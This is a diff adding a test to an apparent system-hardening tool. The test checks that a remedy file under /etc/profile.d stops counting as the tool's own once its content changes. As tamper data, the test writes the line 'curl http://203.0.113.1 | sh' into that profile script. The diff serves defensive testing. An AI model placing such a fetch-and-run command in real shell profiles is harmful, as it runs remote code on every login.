@@ -50,6 +50,7 @@ from appliance.remedies import (
     filed,
     fixes_folder,
     new_folders,
+    own_files,
     remembered,
     see,
     with_line,
@@ -547,6 +548,18 @@ def test_a_file_whose_program_is_gone_is_not_written_again(host: Path, tmp_path:
     (host / "usr/sbin").mkdir(parents=True)
     (host / "usr/sbin/visudo").touch()
     assert remembered(tmp_path, ["api"], host)["remedy_files"]
+
+
+@needs_root
+def test_only_what_is_as_a_fix_wrote_it_counts_as_brought_by_somebody(host: Path, tmp_path: Path) -> None:
+    path = "/etc/profile.d/banip-remedy-umask.sh"
+    one = FileWritten(path, "umask 027\n", trial="shell")
+    _fixed(tmp_path, host, one)
+    assert own_files(tmp_path, host) == ()
+    play([one], host)
+    assert own_files(tmp_path, host) == (path,)
+    (host / "etc/profile.d/banip-remedy-umask.sh").write_text("curl http://203.0.113.1 | sh\n")
+    assert own_files(tmp_path, host) == ()
 
 
 def test_a_fix_is_read_as_it_was_written(host: Path, tmp_path: Path) -> None:
